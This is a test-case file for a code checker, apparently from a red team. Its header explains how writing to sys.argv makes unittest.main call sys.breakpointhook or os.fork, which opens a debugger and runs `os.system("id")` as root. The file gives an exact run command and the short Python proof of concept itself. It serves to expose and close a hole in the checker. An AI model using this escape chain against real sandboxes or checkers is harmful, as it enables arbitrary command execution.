# expect: reject store
# line: 28
# why: the red team's round 25f ok_05 (its header below)
# goal (TOP TIER): runs `id`. Escalation of the unittest lever: unittest's loadTestsFromName,
#   after resolving the dotted name from __main__, CALLS the object when it is callable with no
#   argument (`inst = obj()`), before it checks the result is a test. sys.argv gets
#   'logging.sys.breakpointhook' (ok_01's hole: f(L=list) then L.append(sys.argv, ...)), so
#   unittest.main(exit=False) calls sys.breakpointhook() -> pdb.set_trace() -> a debugger
#   reading its commands from the program's stdin, where the service's user writes
#   `import os; os.system("id")`. Run: printf 'import os; os.system("id")\nc\n' | python3 ok_05.py
#   -> uid=0(root) ... Self-contained member (members/m5_fork.py, no stdin needed):
#   'logging.os.fork' -> os.fork() is called: a NEW PROCESS (two tracebacks, "returned 0" in the
#   child and "returned <pid>" in the parent).
# rule slipped: the same as ok_01 (stores.c class_value_use exempts a keyword_argument parent, so
#   class_values stays false and the SF_FIRST store into sys.argv is dropped); the checker's model
#   of the lever (rules/README: unittest.main(argv=[str] ...)) treats a write of sys.argv as the
#   serious tier (names printed), but the loader also CALLS zero-argument callables it resolves
#   (os.fork, sys.breakpointhook, any module function), so any sys.argv write is top tier.
# family: ok_01's (a container class as a value by an exempted route) + the lever's call step.
#   Principle: besides closing ok_01, make unittest.main without argv= refused (or require
#   argv=[...] written out), since sys.argv is one mutable list away from code execution.
import logging
import sys
import unittest


def f(L):
    L.append(sys.argv, "logging.sys.breakpointhook")


f(L=list)
unittest.main(exit=False)
